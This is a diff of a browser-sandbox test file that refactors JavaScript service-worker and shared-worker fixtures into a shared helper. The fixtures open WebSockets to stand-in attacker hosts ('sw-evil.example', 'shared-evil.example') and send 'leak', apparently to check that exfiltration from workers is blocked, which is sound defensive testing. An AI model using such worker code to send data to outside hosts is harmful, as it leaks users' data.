@@ -21,39 +21,35 @@ from tests.shell.conftest import run_js, type_code
 from tests.testpolicy import CAF_POLICY
 from tests.webproxy import LoopbackListeners, WebProxy
 
-SERVICE_WORKER = """
-self.addEventListener('install', () => self.skipWaiting());
-self.addEventListener('activate', event => event.waitUntil(self.clients.claim()));
-self.addEventListener('message', event => {
-  const targets = ['wss://sw-evil.example/socket', 'ws://127.0.0.1:' + event.data.tcp + '/'];
+# Opens each WebSocket (sending on open) and reports once every one has closed.
+OPEN_SOCKETS = """
+function openSockets(targets, report) {
   let left = targets.length;
-  const report = (what) => { if (--left === 0) event.source.postMessage('sw-done'); };
+  const closed = () => { if (--left === 0) report(); };
   for (const target of targets) {
     try {
       const socket = new WebSocket(target);
       socket.onopen = () => { socket.send('leak'); };
-      socket.onclose = report;
-    } catch (error) { report(); }
+      socket.onclose = closed;
+    } catch (error) { closed(); }
   }
-});
+}
 """
 
-SHARED_WORKER = """
+SERVICE_WORKER = OPEN_SOCKETS + """
+self.addEventListener('install', () => self.skipWaiting());
+self.addEventListener('activate', event => event.waitUntil(self.clients.claim()));
+self.addEventListener('message', event => openSockets(
+  ['wss://sw-evil.example/socket', 'ws://127.0.0.1:' + event.data.tcp + '/'],
+  () => event.source.postMessage('sw-done')));
+"""
+
+SHARED_WORKER = OPEN_SOCKETS + """
 onconnect = event => {
   const port = event.ports[0];
-  port.onmessage = message => {
-    const targets = ['wss://shared-evil.example/socket',
-                     'ws://127.0.0.1:' + message.data.tcp + '/'];
-    let left = targets.length;
-    const report = () => { if (--left === 0) port.postMessage('shared-done'); };
-    for (const target of targets) {
-      try {
-        const socket = new WebSocket(target);
-        socket.onopen = () => { socket.send('leak'); };
-        socket.onclose = report;
-      } catch (error) { report(); }
-    }
-  };
+  port.onmessage = message => openSockets(
+    ['wss://shared-evil.example/socket', 'ws://127.0.0.1:' + message.data.tcp + '/'],
+    () => port.postMessage('shared-done'));
 };
 """
 
